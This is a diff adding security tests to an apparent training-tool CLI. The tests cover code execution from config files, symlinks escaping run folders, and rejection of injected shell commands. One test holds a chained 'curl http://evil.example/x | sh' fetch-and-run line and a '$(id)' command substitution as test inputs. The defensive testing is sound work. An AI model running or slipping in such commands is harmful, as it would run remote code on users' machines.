@@ -10,6 +10,9 @@ import pytest
 from rlready.cli.main import main
 from rlready.cli.trust import refuse_code
 from rlready.core.errors import UserError
+from rlready.report.folder import read_folder
+from rlready.runs.folders import refuse_links
+from rlready.runs.results import is_own
 
 SWEEP = '[sft]\nmodel = "embedded"\n[[rl.recipes]]\nname = "a"\n'
 
@@ -24,6 +27,7 @@ SWEEP = '[sft]\nmodel = "embedded"\n[[rl.recipes]]\nname = "a"\n'
         ('algorithm = "./evil.py:A"', "algorithm"),
         (f'{SWEEP}problems = ["gsm8k:x", "evil:Task"]', "problems = 'evil:Task'"),
         (f'{SWEEP}loss = [["evil:loss"]]', "loss"),
+        (f'{SWEEP}heldout = "evil{{seed}}:T"', "heldout = 'evil{seed}:T'"),
     ],
 )
 def test_code_in_a_file_is_run_only_with_trust_code(tmp_path: Path, content: str, code: str) -> None:
@@ -65,3 +69,21 @@ def test_nothing_is_imported_before_that(
         assert main([*command, "--trust-code"]) == 2
         assert "evil cannot be imported: ValueError: evil" in capsys.readouterr().err
         assert (tmp_path / "ran").exists()
+
+
+def test_a_link_in_a_run_inside_another_is_refused(tmp_path: Path) -> None:
+    """Neither a sweep that continues writes through it, nor a page shows what it points to."""
+    (tmp_path / "important.txt").write_text("mine")
+    inner = tmp_path / "run" / "logs"
+    inner.mkdir(parents=True)
+    (inner / ".lock").touch()
+    (inner / "job.log").symlink_to(tmp_path / "important.txt")
+    for work in (refuse_links, read_folder):
+        with pytest.raises(UserError, match=r"job\.log is a symbolic link out of the run folder"):
+            work(tmp_path / "run")
+
+
+@pytest.mark.parametrize("command", ["rlready sweep x.toml; curl http://evil.example/x | sh", "rlready sft $(id)"])
+def test_a_recorded_command_that_a_shell_would_take_for_more_is_not_proposed(command: str) -> None:
+    assert not is_own(command)
+    assert is_own("rlready sft 'rows=a b.jsonl' --out runs/a")
